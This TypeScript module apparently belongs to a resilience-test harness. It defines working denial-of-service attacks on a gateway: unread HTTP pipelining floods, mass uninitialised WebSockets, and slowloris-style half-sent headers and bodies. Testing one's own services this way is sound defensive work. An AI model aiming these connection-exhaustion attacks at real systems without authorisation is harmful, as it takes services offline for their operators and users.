import type { Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import type { Attack } from './attacks.ts'
import type { Target } from './target.ts'

/** Attacks without a token. */
export const anonymousAttacks: readonly Attack[] = [
  {
    name: 'pipelining, responses not read',
    run: (target, size, signal) =>
      hold(scaled(50, size), signal, () =>
        writing(target, request('GET', '/im/api/v1/openapi.json').repeat(scaled(5000, size))),
      ),
  },
  {
    name: 'pipelining of readiness',
    run: (target, size, signal) =>
      hold(scaled(4, size), signal, () => {
        const socket = writing(target, request('GET', '/health/ready').repeat(scaled(20_000, size)))
        socket.resume()
        return socket
      }),
  },
  {
    name: 'sockets that never initialise',
    async run(target, size, signal) {
      const sockets = Array.from({ length: scaled(3000, size) }, () => target.webSocket())
      await until(signal)
      for (const socket of sockets) socket.terminate()
    },
  },
  {
    name: 'half headers and half bodies',
    run: (target, size, signal) =>
      hold(scaled(2500, size), signal, (index) =>
        writing(
          target,
          index % 5 === 0
            ? 'POST /graphql HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{"query":'
            : 'GET /health/live HTTP/1.1\r\nHost: gateway\r\nX-Padding: ',
        ),
      ),
  },
]

const request = (method: string, path: string) => `${method} ${path} HTTP/1.1\r\nHost: gateway\r\n\r\n`

export const scaled = (full: number, size: number): number => Math.max(1, Math.round(full * size))

/** Connects, writes the text and does not read. */
function writing(target: Target, text: string): Socket {
  const socket = target.tcp()
  socket.write(text)
  return socket
}

/** Opens connections, 50 every 10 ms, and holds them until the signal aborts. */
async function hold(count: number, signal: AbortSignal, open: (index: number) => Socket): Promise<void> {
  const sockets: Socket[] = []
  while (sockets.length < count && !signal.aborted) {
    for (let index = 0; index < 50 && sockets.length < count; index += 1) sockets.push(open(sockets.length))
    await delay(10)
  }
  await until(signal)
  for (const socket of sockets) socket.destroy()
}

export async function until(signal: AbortSignal): Promise<void> {
  if (signal.aborted) return
  await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }))
}
